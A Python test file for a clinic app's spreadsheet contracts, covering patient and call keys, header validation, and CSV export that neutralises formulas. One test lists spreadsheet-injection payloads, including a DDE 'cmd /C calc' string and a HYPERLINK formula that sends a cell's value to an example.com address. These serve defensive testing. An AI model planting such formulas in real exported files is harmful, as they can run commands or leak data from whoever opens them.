"""The staff's sheets: which row is which, what the first row must be, and CSV in which nothing runs."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from clinic.contracts.sheets import CALLS, PATIENTS, SHEETS, Sheet, SheetChanged, as_csv, read_csv

SMALL = Sheet("Small", ("phone", "name", "notes"), (("phone",), ("name",)))


def test_a_patient_is_known_by_the_phone_and_a_family_by_its_names() -> None:
    asha = {"phone": "+919812345678", "name": "Asha Rao", "email": "asha@example.com"}
    assert PATIENTS.key_of(asha) == PATIENTS.key_of(
        {**asha, "name": " asha  RAO", "email": "new@example.com"}
    )
    assert PATIENTS.key_of(asha) != PATIENTS.key_of({**asha, "name": "Ravi Rao"})


def test_who_gave_no_number_is_known_by_the_address() -> None:
    asha = {"phone": "", "name": "Asha Rao", "email": "asha@example.com"}
    assert PATIENTS.key_of(asha) != PATIENTS.key_of({**asha, "email": "other@example.com"})


def test_a_new_sheet_gets_the_columns_and_staffs_own_stay_to_the_right() -> None:
    assert SMALL.header([]) == SMALL.columns
    assert SMALL.header(["phone", "name"]) == SMALL.columns
    assert SMALL.header(["phone", "name", "notes", "insurance"]) == (*SMALL.columns, "insurance")


@pytest.mark.parametrize(
    "found", [["name", "phone", "notes"], ["phone", "Name"], ["", "name", "notes"], ["id", "phone", "name"]]
)
def test_a_column_that_was_moved_renamed_or_taken_away_is_said(found: list[str]) -> None:
    with pytest.raises(SheetChanged, match="Small: column"):
        SMALL.header(found)


def test_no_sheet_has_a_column_twice_and_every_key_is_a_column() -> None:
    for sheet in SHEETS:
        assert len(set(sheet.columns)) == len(sheet.columns)
        assert {name for part in sheet.key for name in part} <= set(sheet.columns)
    assert (PATIENTS.name, CALLS.name) == ("patients", "calls")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://example.com?x="&A1,"open")',
        "=1",
        "+1+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "+91 98123 45678",
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_text(text: str) -> None:
    line = as_csv(["name"], [{"name": text}]).decode().removeprefix("name\r\n")
    assert line.lstrip('"').startswith("'")
    assert read_csv(as_csv(["name"], [{"name": text}]))[1] == [{"name": text}]


@pytest.mark.parametrize(
    "text", ["+919812345678", "-5", "Asha = Rao", "a-b", "asha@example.com", "ఆశా", "'Tis"]
)
def test_a_cell_that_would_not_is_left_alone(text: str) -> None:
    assert as_csv(["name", "notes"], [{"name": text}]) == f"name,notes\r\n{text},\r\n".encode()


@given(
    st.lists(
        st.dictionaries(st.sampled_from(SMALL.columns), st.text(st.characters(codec="utf-8"))), max_size=4
    )
)
def test_whatever_is_written_is_read_again(rows: list[dict[str, str]]) -> None:
    whole: list[dict[str, Any]] = [{**dict.fromkeys(SMALL.columns, ""), **row} for row in rows]
    assert read_csv(as_csv(SMALL.columns, rows)) == (list(SMALL.columns), whole)


def test_a_file_that_a_spreadsheet_saved_is_read() -> None:
    data = "\ufeffphone,name,notes\r\n+919812345678,Asha\r\n\r\n".encode()
    assert read_csv(data) == (
        ["phone", "name", "notes"],
        [{"phone": "+919812345678", "name": "Asha", "notes": ""}],
    )
    assert read_csv(b"") == ([], [])
